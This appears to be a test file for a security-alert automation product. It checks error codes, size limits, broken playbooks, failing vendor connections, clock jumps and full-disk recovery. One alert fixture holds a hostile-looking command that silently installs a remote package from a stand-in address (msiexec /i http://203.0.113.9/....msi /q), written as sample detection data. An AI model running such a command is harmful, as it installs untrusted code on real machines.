/**
 * Goal: bad input of every kind gets a clear error, a code and what to do; nothing that was acknowledged is lost, and the product goes on.
 * Method: a started product over its API; vendors that are not there or refuse the key; a clock that the test sets; a process whose files
 * may not grow any more, which is how a full disk looks to the store.
 * Elsewhere: bodies that cannot be read (`server.test.ts`), the store's own errors (`adapters/store`), a failing store under a driver (`adapters/drivers`).
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { afterEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { WallClock } from '../src/apps/clock.ts';
import { startLab } from '../src/apps/lab/index.ts';
import type { ProductOptions } from '../src/apps/main.ts';
import { ROOT } from '../src/apps/root.ts';
import type { AlertView, DoctorView, EventsPage, PageView, ProblemView, Received } from '../src/core/api/views.ts';
import { callTask, yamlOf } from '../src/core/playbook/testing.ts';
import { askTask, House, imported } from './support.ts';

vi.setConfig({ testTimeout: 60_000 });

const LOOKS = yamlOf('Looks', {
  1: callTask('core-get-endpoints', 'hostname: {simple: pc}'),
});
const ASKS = yamlOf('Asks', {
  1: `type: regular, task: {name: Wait, script: Sleep, type: regular}, scriptarguments: {seconds: {simple: "1"}}, nexttasks: {'#none#': ["2"]}`,
  2: askTask('Go on?', ['3']),
  3: `type: regular, task: {name: Wait again, script: Sleep, type: regular}, scriptarguments: {seconds: {simple: "1"}}`,
});
const ROUTED = 'Msiexec execution of an executable from an uncommon remote location without properties';

const houses: House[] = [];
afterEach(async () => {
  for (const house of houses.splice(0)) await house.remove();
});

async function open(options: Partial<ProductOptions> = {}): Promise<House> {
  const house = await House.open({ imported: imported({ Looks: LOOKS, Asks: ASKS }), ...options });
  houses.push(house);
  return house;
}

/** A problem says what it is and what to do. */
function expectProblem(problem: ProblemView, code: string): void {
  expect(problem.code).toBe(code);
  expect(problem.detail.length).toBeGreaterThan(10);
  expect((problem.hint ?? '').length).toBeGreaterThan(10);
}

describe('an alert', () => {
  it.each([
    ['without an id', { name: 'x' }],
    ['whose id is no text', { id: { a: 1 } }],
    ['whose id is a number that a double does not hold', { id: 2 ** 64 }],
    ['that is a list', []],
    ['that is a text', 'x'],
  ])('%s is refused, and kept nowhere', async (_what, fields) => {
    const house = await open();
    const { status, body } = await house.call('/api/v1/alerts', { fields });
    expect([400, 422]).toContain(status);
    expectProblem(body, status === 422 ? 'alert.invalid' : 'api.invalid');
    expect((await house.call<{ rows: unknown[] }>('/api/v1/alerts')).body.rows).toEqual([]);
  });

  it('with a field of 5 MB is taken whole, and handled', async () => {
    const house = await open();
    const cgocmd = `msiexec /i http://203.0.113.9/${'a'.repeat(5_000_000)}.msi /q`;
    const fields = { id: 'large', name: ROUTED, agentostype: 'Windows', agentid: 'a'.repeat(32), cgocmd };
    const { run } = await house.deliver(fields);
    const view = await house.atRest(run);
    expect(view.items.length + view.approvals.length).toBeGreaterThan(0);
    const { body } = await house.call<PageView<AlertView>>('/api/v1/alerts?id=large');
    expect([body.rows[0]?.status, body.rows[0]?.fields['cgocmd'] === cgocmd]).toEqual(['open', true]);
  });

  it('that is larger than what is taken is refused by its size', async () => {
    const house = await open();
    expectProblem(
      (await house.call('/api/v1/alerts', { fields: { id: 'x', a: 'x'.repeat(9_000_000) } })).body,
      'api.too-large',
    );
    expect((await house.call<{ ok: boolean }>('/api/v1/health')).body.ok).toBe(true);
  });
});

describe('a playbook', () => {
  it('that is not installed is named, with those that are', async () => {
    const house = await open();
    const { body } = await house.call('/api/v1/alerts', { fields: { id: '1' }, playbook: 'Nix' });
    expectProblem(body, 'playbook.unknown');
    expect(body.hint).toContain('Triage');
  });

  it.each([
    ['that is no YAML', 'name: [x\ntasks: {'],
    ['whose task leads nowhere', ASKS.replace(`['3']`, '["9"]').replace(`["3"]`, '["9"]')],
    ['whose start is not there', ASKS.replace('starttaskid: "0"', 'starttaskid: "77"')],
  ])('%s keeps nobody else from running, and doctor says what is wrong with it', async (_what, text) => {
    const house = await open({ imported: imported({ Broken: text, Looks: LOOKS }) });
    const { body } = await house.call<DoctorView>('/api/v1/doctor');
    const check = body.checks.find(({ name }) => name === 'playbooks');
    expect([check?.ok, check?.hint === '']).toEqual([false, false]);
    expectProblem(
      (await house.call('/api/v1/alerts', { fields: { id: '1' }, playbook: 'Asks' })).body,
      'playbook.unknown',
    );
    expect((await house.deliver({ id: '2' }, { playbook: 'Looks' })).run).not.toBeNull();
  });
});

describe('a vendor', () => {
  const cortex = (url: string, key: string) => [
    { instance: 'tenant', product: 'cortex', config: { url, keyId: '17', key, keyKind: 'standard' }, live: true },
  ];

  it.each([
    ['that nobody reaches', async () => 'http://127.0.0.1:9'],
    [
      'that refuses the key',
      async () => {
        const lab = await startLab({ tenant: {}, clock: new WallClock() });
        onTestFinished(() => lab.close());
        return lab.cortex.url;
      },
    ],
  ])('%s fails the task, leaves the alert open for a person, and the key stays secret', async (_what, url) => {
    const key = 'a-key-that-nobody-may-read';
    const house = await open({ instances: cortex(await url(), key) });
    const { run } = await house.deliver({ id: '1' }, { instance: 'tenant', playbook: 'Looks' });
    const view = await house.until(run, ({ status }) => status === 'failed');
    expect([view.alertStatus, view.items[0]?.offers]).toEqual(['open', ['retry', 'skip', 'cancel']]);
    expect(view.tasks.at(-1)?.error ?? '').toMatch(/.{10}/);
    const { body } = await house.call<DoctorView>('/api/v1/doctor');
    const check = body.checks.find(({ name }) => name.includes('tenant'));
    expect([check?.ok, check?.hint === '']).toEqual([false, false]);
    expect(JSON.stringify([view, body, house.reports])).not.toContain(key);
  });
});

describe('a clock', () => {
  it.each([
    ['set back by a day', -86_400_000],
    ['set forward by a year', 365 * 86_400_000],
  ])('%s while runs are under way and wait: they go on, and no time of a run runs backwards', async (_what, jump) => {
    let shift = 0;
    const house = await open({ clock: new WallClock(() => Date.UTC(2026, 0, 1) + performance.now() + shift) });
    const { run } = await house.deliver({ id: '1' }, { playbook: 'Asks' });
    shift = jump;
    const { approvals } = await house.until(run, (view) => view.approvals.length > 0);
    shift = 0;
    const [asked] = approvals;
    if (!asked) throw new Error('nothing was asked');
    expect((await house.answer(asked, { go: 'Yes' })).status).toBe(200);
    shift = jump;
    await house.until(run, ({ status }) => status === 'completed');
    const { body } = await house.call<EventsPage>(`/api/v1/runs/${run}/events?limit=1000`);
    const times = body.events.map(({ at }) => at);
    expect(times).toEqual(times.toSorted((a, b) => a - b));
  });
});

describe('a disk that is full', () => {
  it('refuses what it cannot keep with a code and what to do, stays up, and has all that it took after the next start', async () => {
    const directory = await mkdtemp(join(tmpdir(), 'riposte-full-'));
    onTestFinished(() => rm(directory, { recursive: true, force: true }));
    // Blocks of 512 bytes or of 1 kB, by the shell.
    const limited = 'ulimit -f 2000; exec "$0" "$@"';
    const program = [process.execPath, join(ROOT, 'src/apps/cli/index.ts')];
    const child = spawn('/bin/sh', ['-c', limited, ...program, 'up', '--json', '--port', '0', '--data', directory], {
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    onTestFinished(() => void child.kill('SIGKILL'));
    for await (const line of createInterface({ input: child.stdout })) if (line === '}') break;
    const { url } = JSON.parse(await readFile(join(directory, 'lock.json'), 'utf8')) as { url: string };
    const token = (await readFile(join(directory, 'token'), 'utf8')).trim();
    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
    const deliver = (id: string) =>
      fetch(`${url}/api/v1/alerts`, {
        method: 'POST',
        headers,
        body: JSON.stringify({ fields: { id, text: 'x'.repeat(60_000) } }),
      });
    const taken: string[] = [];
    let refused: ProblemView | undefined;
    while (!refused && taken.length < 200) {
      const id = `alert-${taken.length}`;
      const response = await deliver(id);
      const body = (await response.json()) as ProblemView & Received;
      if (response.status === 202) taken.push(id);
      else refused = body;
    }
    expect(taken.length).toBeGreaterThan(0);
    expectProblem(refused ?? ({ code: '', detail: '' } as ProblemView), 'api.unavailable');
    expect(refused?.detail).toMatch(/store\.(?:disk-full|io)/);
    const health = await fetch(`${url}/api/v1/health`, { headers });
    expect(health.status).toBe(200);
    child.kill('SIGKILL');
    await once(child, 'exit');
    const house = await open({ directory });
    const { body } = await house.call<PageView<AlertView>>('/api/v1/alerts?limit=1000');
    expect(body.rows.map(({ id }) => id).toSorted()).toEqual(expect.arrayContaining(taken.toSorted()) as unknown);
    expect((await house.call<DoctorView>('/api/v1/doctor')).body.checks.find(({ name }) => name === 'store')?.ok).toBe(
      true,
    );
    expect((await house.deliver({ id: 'after' })).run).not.toBeNull();
  });
});
